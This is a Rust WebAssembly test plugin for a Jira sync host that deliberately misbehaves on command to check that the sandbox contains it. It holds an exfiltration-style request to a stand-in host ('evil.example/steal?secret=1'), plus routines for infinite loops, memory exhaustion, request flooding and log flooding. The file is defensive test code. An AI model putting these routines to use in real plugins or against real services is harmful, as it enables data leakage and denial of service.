//! A guest that misbehaves on command, to prove the sandbox contains it. The webhook body names
//! the misdeed; every command first looks up installation `jira:1c4`, so that its limits and
//! its site apply.

#[cfg(target_arch = "wasm32")]
mod guest {
    wit_bindgen::generate!({ path: "../../wit", world: "plugin" });

    use exports::jira_sync::plugin::outbound::{self, AssigneeOutcome, StatusOutcome};
    use exports::jira_sync::plugin::webhook::{self, Request, Response};
    use jira_sync::plugin::{group_assignment, http, installations, log};

    struct Hostile;

    fn answer(status: u16, body: Vec<u8>) -> Response {
        Response {
            status,
            headers: Vec::new(),
            body,
        }
    }

    fn get(url: &str) -> Result<http::Response, http::Error> {
        http::send(&http::Request {
            method: http::Method::Get,
            url: url.to_owned(),
            headers: Vec::new(),
            body: None,
        })
    }

    fn spin() -> ! {
        let mut n = 0u64;
        loop {
            n = std::hint::black_box(n.wrapping_add(1));
        }
    }

    impl webhook::Guest for Hostile {
        fn handle(request: Request) -> Response {
            let Some(installation) = installations::get_by_client_key("jira:1c4") else {
                return answer(500, b"no installation jira:1c4".to_vec());
            };
            match String::from_utf8_lossy(&request.body).as_ref() {
                "loop" => spin(),
                "alloc" => {
                    let mut hoard: Vec<Vec<u8>> = Vec::new();
                    loop {
                        hoard.push(std::hint::black_box(vec![7u8; 1 << 20]));
                    }
                }
                "panic" => panic!("the hostile guest panics on purpose"),
                "http-foreign" => match get("https://evil.example/steal?secret=1") {
                    Ok(r) => answer(
                        200,
                        format!("reached evil.example: {}", r.status).into_bytes(),
                    ),
                    Err(e) => answer(200, format!("refused: {e:?}").into_bytes()),
                },
                "http-flood" => {
                    let url = format!("{}/rest/api/2/status", installation.base_url);
                    for _ in 0..10_000 {
                        let _ = get(&url);
                    }
                    answer(200, Vec::new())
                }
                "log-flood" => {
                    for i in 0..1_000_000u32 {
                        log::log(log::Level::Info, "flood", &[("i".into(), i.to_string())]);
                    }
                    answer(200, Vec::new())
                }
                "huge-response" => answer(200, vec![b'x'; 1 << 20]),
                "assign-then-loop" => {
                    group_assignment::assign("jira:1c4", "APP-123", "ada@example.com");
                    spin()
                }
                "assign" => {
                    group_assignment::assign("jira:1c4", "APP-123", "ada@example.com");
                    answer(200, Vec::new())
                }
                other => answer(400, format!("unknown command {other}").into_bytes()),
            }
        }
    }

    impl outbound::Guest for Hostile {
        fn sync_status(_: outbound::StatusRequest) -> StatusOutcome {
            spin()
        }

        fn sync_assignee(_: outbound::AssigneeRequest) -> AssigneeOutcome {
            AssigneeOutcome::Disabled
        }
    }

    export!(Hostile);
}
